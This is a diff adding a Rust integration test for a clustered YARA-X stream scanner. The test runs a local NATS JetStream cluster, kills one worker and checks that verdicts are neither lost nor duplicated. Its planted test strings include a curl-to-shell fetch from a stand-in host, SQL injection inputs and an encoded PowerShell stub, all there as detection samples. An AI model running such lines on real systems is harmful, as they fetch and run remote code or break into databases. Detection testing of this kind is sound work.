@@ -1,0 +1,476 @@
+//! The cluster end to end: a real three-node JetStream cluster of
+//! `nats-server` on loopback (started and stopped here, stores in
+//! temporary folders), three in-process workers, a producer sending a few
+//! thousand interleaved streams, and a worker killed in the middle.
+//!
+//! What must hold: every verdict equals a whole-buffer YARA-X scan of its
+//! stream, each appears exactly once on the verdict stream, and the killed
+//! worker's partitions were taken over (counted: takeovers and replayed
+//! messages, or the test fails). Garbage on the input subjects is counted
+//! and skipped.
+//!
+//! Skipped, with a message, when `nats-server` is not installed; failed
+//! then when `YARAFLOW_REQUIRE_NATS` is set (`.ci/run` sets it).
+
+#![cfg(feature = "cluster")]
+
+mod common;
+
+use std::collections::HashMap;
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use bytes::Bytes;
+use futures_util::StreamExt;
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use tokio::sync::oneshot;
+use yaraflow::cluster::{self, ClusterConfig, Producer, Worker, WorkerStats, WorkerStatsSnapshot};
+use yaraflow::{RuleSet, ScannerConfig, Uuid};
+
+const STREAMS: usize = 2000;
+const OPEN_AT_ONCE: usize = 150;
+const PARTITIONS: u32 = 16;
+
+/// Whether nats-server is installed (see the module docs).
+fn nats_installed() -> bool {
+    if Command::new("nats-server")
+        .arg("--version")
+        .output()
+        .is_ok()
+    {
+        return true;
+    }
+    assert!(
+        std::env::var_os("YARAFLOW_REQUIRE_NATS").is_none(),
+        "nats-server is required (YARAFLOW_REQUIRE_NATS is set) but not installed"
+    );
+    eprintln!("nats-server not installed: the cluster tests are skipped");
+    false
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// Three nats-server processes forming one JetStream cluster; killed on
+/// drop.
+struct NatsCluster {
+    nodes: Vec<Child>,
+    client_ports: Vec<u16>,
+    _dir: tempfile::TempDir,
+}
+
+impl NatsCluster {
+    fn start() -> NatsCluster {
+        let dir = common::store_dir();
+        let client_ports: Vec<u16> = (0..3).map(|_| free_port()).collect();
+        let route_ports: Vec<u16> = (0..3).map(|_| free_port()).collect();
+        let nodes = (0..3)
+            .map(|n| Self::node(dir.path(), n, &client_ports, &route_ports))
+            .collect();
+        NatsCluster {
+            nodes,
+            client_ports,
+            _dir: dir,
+        }
+    }
+
+    fn node(dir: &Path, n: usize, clients: &[u16], routes: &[u16]) -> Child {
+        let others: Vec<String> = (0..3)
+            .filter(|&m| m != n)
+            .map(|m| format!("\"nats-route://127.0.0.1:{}\"", routes[m]))
+            .collect();
+        let config = format!(
+            "server_name: n{n}\nlisten: 127.0.0.1:{}\n\
+             jetstream {{ store_dir: \"{}\", max_memory_store: 64MB, max_file_store: 1GB }}\n\
+             cluster {{ name: yf, listen: 127.0.0.1:{}, routes: [{}] }}\n",
+            clients[n],
+            dir.join(format!("n{n}")).display(),
+            routes[n],
+            others.join(", ")
+        );
+        let path = dir.join(format!("n{n}.conf"));
+        std::fs::write(&path, config).unwrap();
+        Command::new("nats-server")
+            .arg("-c")
+            .arg(&path)
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(dir.join(format!("n{n}.log"))).unwrap())
+            .spawn()
+            .expect("nats-server starts")
+    }
+
+    fn url(&self, n: usize) -> String {
+        format!("nats://127.0.0.1:{}", self.client_ports[n])
+    }
+}
+
+impl Drop for NatsCluster {
+    fn drop(&mut self) {
+        for node in &mut self.nodes {
+            let _ = node.kill();
+            let _ = node.wait();
+        }
+    }
+}
+
+fn config() -> ClusterConfig {
+    ClusterConfig {
+        partitions: PARTITIONS,
+        replicas: 3,
+        lease_ttl: Duration::from_secs(2),
+        checkpoint_interval: Duration::from_secs(1),
+        ..ClusterConfig::default()
+    }
+}
+
+fn rules() -> RuleSet {
+    RuleSet::from_paths(&["data/rules"], ScannerConfig::default().max_pattern_len).unwrap()
+}
+
+/// A worker on its own thread (its loop is not `Send`), stopped cleanly
+/// or killed: a kill drops its loop where it stands, as a crash would.
+struct RunningWorker {
+    stats: Arc<WorkerStats>,
+    stop: Option<oneshot::Sender<()>>,
+    kill: Option<oneshot::Sender<()>>,
+    thread: Option<std::thread::JoinHandle<Option<WorkerStatsSnapshot>>>,
+}
+
+impl RunningWorker {
+    fn start(url: String) -> RunningWorker {
+        let worker = Worker::new(rules(), config(), ScannerConfig::default()).unwrap();
+        let stats = worker.stats();
+        let (stop, stopped) = oneshot::channel::<()>();
+        let (kill, killed) = oneshot::channel::<()>();
+        let thread = std::thread::spawn(move || {
+            let runtime = tokio::runtime::Builder::new_current_thread()
+                .enable_all()
+                .build()
+                .unwrap();
+            runtime.block_on(async move {
+                let client = cluster::connect(&url).await.unwrap();
+                let run = worker.run(client, async move {
+                    let _ = stopped.await;
+                });
+                tokio::select! {
+                    report = run => Some(report.unwrap()),
+                    _ = killed => None,
+                }
+            })
+        });
+        RunningWorker {
+            stats,
+            stop: Some(stop),
+            kill: Some(kill),
+            thread: Some(thread),
+        }
+    }
+
+    fn kill(&mut self) {
+        let _ = self.kill.take().unwrap().send(());
+        self.thread.take().unwrap().join().unwrap();
+    }
+
+    fn stop(&mut self) -> WorkerStatsSnapshot {
+        let _ = self.stop.take().unwrap().send(());
+        self.thread.take().unwrap().join().unwrap().unwrap()
+    }
+}
+
+/// Text the bundled rules look for, planted in the streams.
+const PLANTS: &[&[u8]] = &[
+    b"Authorization: Basic YWRtaW46aHVudGVyMg==\r\n",
+    b"curl -s http://evil.example/x.sh | sh\n",
+    b"id=1 UNION SELECT password FROM users",
+    b"user=' or '1'='1",
+    b"-----BEGIN RSA PRIVATE KEY-----\nMIIE",
+    b"powershell -enc SQBFAFgA ",
+];
+
+/// A stream of 500 to 6000 bytes: printable filler with a few plants
+/// (sometimes the EICAR string at offset 0).
+fn stream_data(rng: &mut StdRng) -> Vec<u8> {
+    let len = rng.gen_range(500..6000);
+    let mut data = Vec::with_capacity(len + 100);
+    if rng.gen_ratio(1, 20) {
+        data.extend_from_slice(&std::fs::read("data/samples/eicar.com").unwrap());
+    }
+    while data.len() < len {
+        if rng.gen_ratio(1, 8) {
+            data.extend_from_slice(PLANTS[rng.gen_range(0..PLANTS.len())]);
+        } else {
+            let n = rng.gen_range(10..200);
+            data.extend((0..n).map(|_| rng.gen_range(b' '..=b'~')));
+        }
+    }
+    data
+}
+
+/// Chunks of 1 to 1500 bytes.
+fn chunks(data: &[u8], rng: &mut StdRng) -> Vec<Bytes> {
+    let mut out = Vec::new();
+    let mut at = 0;
+    while at < data.len() {
+        let end = (at + rng.gen_range(1..1500)).min(data.len());
+        out.push(Bytes::copy_from_slice(&data[at..end]));
+        at = end;
+    }
+    out
+}
+
+/// Publishes `streams` interleaved, `OPEN_AT_ONCE` open at a time, one
+/// chunk of each open stream in turn; calls `halfway` once half of them
+/// are closed.
+async fn produce(
+    producer: &mut Producer,
+    streams: &[(Uuid, Vec<u8>)],
+    seed: u64,
+    mut halfway: impl FnMut(),
+) {
+    let mut rng = StdRng::seed_from_u64(seed);
+    let mut pending = streams.iter();
+    let mut open: Vec<(Uuid, std::vec::IntoIter<Bytes>)> = Vec::new();
+    let mut closed = 0;
+    loop {
+        while open.len() < OPEN_AT_ONCE {
+            let Some((id, data)) = pending.next() else {
+                break;
+            };
+            open.push((*id, chunks(data, &mut rng).into_iter()));
+        }
+        if open.is_empty() {
+            break;
+        }
+        let mut still = Vec::with_capacity(open.len());
+        for (id, mut rest) in open {
+            match rest.next() {
+                Some(chunk) => {
+                    producer.chunk(id, chunk).await.unwrap();
+                    still.push((id, rest));
+                }
+                None => {
+                    producer.close(id).await.unwrap();
+                    closed += 1;
+                    if closed == streams.len() / 2 {
+                        halfway();
+                    }
+                }
+            }
+        }
+        open = still;
+    }
+    producer.flush().await.unwrap();
+}
+
+/// Publishes garbage straight onto partition subjects: a payload that is
+/// not a message, and a message on another partition than its stream's.
+async fn publish_garbage(client: &async_nats::Client, config: &ClusterConfig) {
+    let js = async_nats::jetstream::new(client.clone());
+    let garbage = Bytes::from_static(b"this is not a yaraflow message");
+    js.publish(config.input_subject(3), garbage)
+        .await
+        .unwrap()
+        .await
+        .unwrap();
+    let partitioner = cluster::Partitioner::new(config.partitions).unwrap();
+    let stream = Uuid::new_v4();
+    let wrong = (partitioner.partition_of(&stream) + 1) % config.partitions;
+    let message = cluster::Message {
+        kind: cluster::MessageKind::Chunk,
+        stream,
+        data: Bytes::from_static(b"misrouted"),
+    };
+    js.publish(config.input_subject(wrong), message.encode())
+        .await
+        .unwrap()
+        .await
+        .unwrap();
+}
+
+/// Waits until JetStream has a meta leader and the R3 objects exist.
+async fn ensure_objects(url: &str) -> async_nats::Client {
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let attempt = async {
+            let client = cluster::connect(url).await?;
+            cluster::ensure_cluster(&client, &config()).await?;
+            Ok::<_, cluster::ClusterError>(client)
+        };
+        match attempt.await {
+            Ok(client) => return client,
+            Err(err) if Instant::now() < deadline => {
+                eprintln!("cluster not ready yet: {err}");
+                tokio::time::sleep(Duration::from_millis(500)).await;
+            }
+            Err(err) => panic!("the cluster never became ready: {err}"),
+        }
+    }
+}
+
+fn owned(workers: &[&RunningWorker]) -> u64 {
+    workers.iter().map(|w| w.stats.snapshot().owned).sum()
+}
+
+fn wait_until(what: &str, limit: Duration, mut done: impl FnMut() -> bool) {
+    let deadline = Instant::now() + limit;
+    while !done() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Reads every verdict on the verdict stream once `expected` are there
+/// (and a second more, for duplicates to show).
+async fn read_verdicts(client: &async_nats::Client, expected: usize) -> Vec<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let config = config();
+    let js = async_nats::jetstream::new(client.clone());
+    loop {
+        let stream = js.get_stream(config.verdict_stream()).await.unwrap();
+        if stream.cached_info().state.messages as usize >= expected {
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "{} verdicts of {expected} after 60 s",
+            stream.cached_info().state.messages
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let verdicts = cluster::verdicts(client, &config).await.unwrap();
+    let total = verdicts.published as usize;
+    let lines: Vec<_> = verdicts.stream.take(total).collect().await;
+    lines
+        .into_iter()
+        .map(|line| serde_json::from_slice(&line.unwrap().0).unwrap())
+        .collect()
+}
+
+#[test]
+fn three_workers_lose_nothing_and_duplicate_nothing_when_one_is_killed() {
+    if !nats_installed() {
+        return;
+    }
+    let began = Instant::now();
+    let nats = NatsCluster::start();
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    let client = runtime.block_on(ensure_objects(&nats.url(0)));
+    let mut workers: Vec<RunningWorker> =
+        (0..3).map(|n| RunningWorker::start(nats.url(n))).collect();
+    wait_until("every partition owned", Duration::from_secs(20), || {
+        owned(&workers.iter().collect::<Vec<_>>()) == u64::from(PARTITIONS)
+    });
+    eprintln!("cluster up, partitions owned, after {:?}", began.elapsed());
+
+    let mut rng = StdRng::seed_from_u64(18);
+    let streams: Vec<(Uuid, Vec<u8>)> = (0..STREAMS)
+        .map(|_| (Uuid::from_u128(rng.gen()), stream_data(&mut rng)))
+        .collect();
+    let rules = rules();
+    let expected: HashMap<Uuid, common::Verdict> = streams
+        .iter()
+        .map(|(id, data)| (*id, common::reference(&rules, data)))
+        .collect();
+    let matching = expected.values().filter(|v| !v.is_empty()).count();
+    assert!(
+        matching > STREAMS / 2,
+        "only {matching} streams match a rule"
+    );
+
+    let killed_owned = workers[0].stats.snapshot().owned;
+    let (kill_now, kill_asked) = std::sync::mpsc::channel::<()>();
+    let producing = runtime.spawn({
+        let client = client.clone();
+        let streams = streams.clone();
+        async move {
+            publish_garbage(&client, &config()).await;
+            let mut producer = Producer::new(client, config(), 256).await.unwrap();
+            produce(&mut producer, &streams, 7, || {
+                let _ = kill_now.send(());
+            })
+            .await;
+            producer.published()
+        }
+    });
+    kill_asked.recv().unwrap();
+    let before_kill = workers[0].stats.snapshot();
+    workers[0].kill();
+    let killed_at = Instant::now();
+    eprintln!(
+        "killed worker 0 holding {} partitions, {} messages applied, {} checkpoints",
+        before_kill.owned, before_kill.applied, before_kill.checkpoints
+    );
+    let published = runtime.block_on(producing).unwrap();
+    let survivors: Vec<&RunningWorker> = workers[1..].iter().collect();
+    wait_until(
+        "the killed worker's partitions taken over",
+        Duration::from_secs(20),
+        || owned(&survivors) == u64::from(PARTITIONS),
+    );
+    eprintln!(
+        "partitions all owned again {:?} after the kill",
+        killed_at.elapsed()
+    );
+
+    let verdicts = runtime.block_on(read_verdicts(&client, STREAMS));
+    let mut seen: HashMap<Uuid, usize> = HashMap::new();
+    for verdict in &verdicts {
+        let id: Uuid = verdict["stream"].as_str().unwrap().parse().unwrap();
+        *seen.entry(id).or_default() += 1;
+        assert!(verdict.get("error").is_none(), "{verdict}");
+        let want = expected
+            .get(&id)
+            .unwrap_or_else(|| panic!("a verdict for unknown stream {id}"));
+        assert_eq!(&common::printed(&rules, verdict), want, "stream {id}");
+    }
+    let twice: Vec<_> = seen.iter().filter(|(_, n)| **n > 1).collect();
+    assert!(
+        twice.is_empty(),
+        "verdicts published more than once: {twice:?}"
+    );
+    assert_eq!(seen.len(), STREAMS, "streams with a verdict");
+    assert_eq!(verdicts.len(), STREAMS, "verdict messages");
+
+    let after: Vec<WorkerStatsSnapshot> = workers[1..].iter_mut().map(|w| w.stop()).collect();
+    let sum = |f: fn(&WorkerStatsSnapshot) -> u64| after.iter().map(f).sum::<u64>();
+    let takeovers = sum(|s| s.takeovers);
+    let replayed = sum(|s| s.replayed);
+    eprintln!(
+        "{published} messages published; killed worker held {killed_owned} partitions at start, {} at the kill; survivors: {takeovers} takeovers, {replayed} messages replayed, {} applied, {} checkpoints (last {} bytes), {} bad and {} misrouted messages skipped; {} s in all",
+        before_kill.owned,
+        sum(|s| s.applied),
+        sum(|s| s.checkpoints),
+        after.iter().map(|s| s.checkpoint_bytes).max().unwrap_or(0),
+        sum(|s| s.bad_messages),
+        sum(|s| s.misrouted),
+        began.elapsed().as_secs_f64()
+    );
+    assert!(
+        before_kill.owned > 0,
+        "the killed worker owned no partition"
+    );
+    assert!(takeovers >= before_kill.owned, "{takeovers} takeovers");
+    assert!(
+        replayed > 0,
+        "no message was replayed: the takeover was not tested"
+    );
+    // Counted once, or twice when the killed worker had applied it but not
+    // checkpointed past it.
+    let bad = sum(|s| s.bad_messages) + workers[0].stats.snapshot().bad_messages;
+    let misrouted = sum(|s| s.misrouted) + workers[0].stats.snapshot().misrouted;
+    assert!((1..=2).contains(&bad), "{bad} bad messages counted");
+    assert!(
+        (1..=2).contains(&misrouted),
+        "{misrouted} misrouted messages counted"
+    );
+}
